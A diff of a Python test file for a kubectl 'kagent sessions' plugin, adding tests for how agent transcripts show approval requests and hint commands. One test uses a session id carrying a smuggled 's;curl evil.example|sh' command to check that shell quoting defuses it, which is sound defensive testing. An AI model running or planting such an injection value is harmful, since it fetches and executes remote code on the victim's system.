@@ -230,6 +230,30 @@ def test_a_transcript(kagent: Kagent, screen: Screen) -> None:
         screen("session-markdown", out)
 
 
+def test_a_transcript_has_two_requests_of_one_id(kagent: Kagent) -> None:
+    data = conversation()
+    for entry in data[f"{WHOLE}/tasks"][0]["history"]:
+        for part in entry["parts"]:
+            if part.get("data", {}).get("id") == "r-c2":
+                part["data"]["id"] = "r-c1"
+    with talking(data=data) as agent:
+        out = sessions(kagent, agent, "show", SESSION)[1]
+    assert 'waits for approval of delete name="a"; approval of delete name="b"\n' in out
+
+
+def test_a_transcript_has_what_a_person_was_asked_and_could_not_read(kagent: Kagent) -> None:
+    data = conversation()
+    (asks,) = (entry for entry in data[f"{WHOLE}/tasks"][0]["history"] if "r-c2" in entry["messageId"])
+    asks["parts"][1]["data"]["args"]["originalFunctionCall"] = {"id": "c2", "name": "drop", "args": ["prod"]}
+    with talking(data=data) as agent:
+        out = sessions(kagent, agent, "show", SESSION)[1]
+        told = json.loads(sessions(kagent, agent, "show", SESSION, "-o", "json")[1])
+    raw = '{"name": "drop", "id": "c2", "args": ["prod"]}'
+    assert f'waits for approval of delete name="a"; what is not understood: {raw}\n' in out
+    (asked,) = (entry for entry in told["entries"] if entry["kind"] == "asked")
+    assert [call["raw"] for call in asked["calls"]] == [None, json.loads(raw)]
+
+
 def test_a_transcript_for_programs(kagent: Kagent) -> None:
     with talking(data=conversation()) as agent:
         told = json.loads(sessions(kagent, agent, "show", SESSION, "-o", "json")[1])
@@ -391,6 +415,14 @@ def test_the_help_shows_how_to_delete_what_is_listed(kagent: Kagent) -> None:
     listed = "kubectl kagent sessions list datetime-agent -o name"
     example = rf"  {listed} | xargs -d '\n' kubectl kagent sessions delete --"
     assert f"{example}\n" in kagent("sessions", "delete", "-h")[1]
+
+
+def test_the_command_that_a_hint_gives_is_one_command_whatever_the_id_is(kagent: Kagent) -> None:
+    evil = "s;curl evil.example|sh"
+    data = {WHOLE: {"session": row(evil), "events": [event("00", text="hello")]}, f"{WHOLE}/tasks": None}
+    with talking(data=data) as agent:
+        err = sessions(kagent, agent, "show", SESSION)[2]
+    assert err.endswith(f"(kubectl kagent sessions export '{evil}' has the events)\n")
 
 
 def test_an_id_that_would_lead_elsewhere_is_refused(kagent: Kagent) -> None:
